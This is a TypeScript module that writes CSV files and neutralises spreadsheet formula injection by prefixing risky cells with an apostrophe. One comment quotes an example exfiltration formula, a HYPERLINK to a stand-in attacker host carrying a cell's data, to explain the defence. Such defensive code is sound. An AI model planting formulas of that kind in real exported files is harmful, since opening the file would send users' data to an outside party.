/** A cell as Reprise writes it: text, a number, or empty. */
export type CsvCell = string | number | null;

export interface CsvWriteOptions {
  /**
   * Leave text exactly as stored, for programs that read the file. Without it, text a
   * spreadsheet would run as a formula is neutralised (see `neutralise`).
   */
  raw?: boolean;
  /**
   * For Excel, as a reader in this language opens it: a UTF-8 BOM (without it Excel reads the
   * file in the system's legacy code page), numbers with that language's decimal mark, and `;`
   * between fields where the decimal mark is a comma (Excel's list separator there). Without it,
   * RFC 4180 as programs expect.
   */
  excel?: 'en' | 'fi';
}

/** Where the decimal mark is a comma, and the list separator therefore a semicolon. */
const decimalComma = new Set(['fi']);

/**
 * Excel, LibreOffice and Google Sheets run a cell that starts with = + - or @ as a formula
 * (and tab or CR can hide such a start), so `=HYPERLINK("http://evil.example/?d="&B2)` in a
 * comment would send the sheet's data away when opened. As OWASP recommends, such text gets a
 * leading ' which the spreadsheet shows as plain text. Numbers are written as numbers.
 */
export function neutralise(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

function field(value: CsvCell, raw: boolean, comma: boolean, delimiter: string): string {
  if (value === null) return '';
  const number = typeof value === 'number' ? String(value) : null;
  const text = number !== null ? (comma ? number.replace('.', ',') : number) : raw ? (value as string) : neutralise(value as string);
  return text.includes(delimiter) || /["\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * Every CSV Reprise writes goes through here. RFC 4180: a header row, CRLF line ends, and
 * fields with the delimiter, a quote or a line break quoted, with "" for ".
 */
export function writeCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[], options: CsvWriteOptions = {}): string {
  const raw = options.raw ?? false;
  const comma = options.excel !== undefined && decimalComma.has(options.excel);
  const delimiter = comma ? ';' : ',';
  const lines = [header, ...rows].map((cells) => cells.map((cell) => field(cell, raw, comma, delimiter)).join(delimiter));
  return `${options.excel ? '\ufeff' : ''}${lines.join('\r\n')}\r\n`;
}
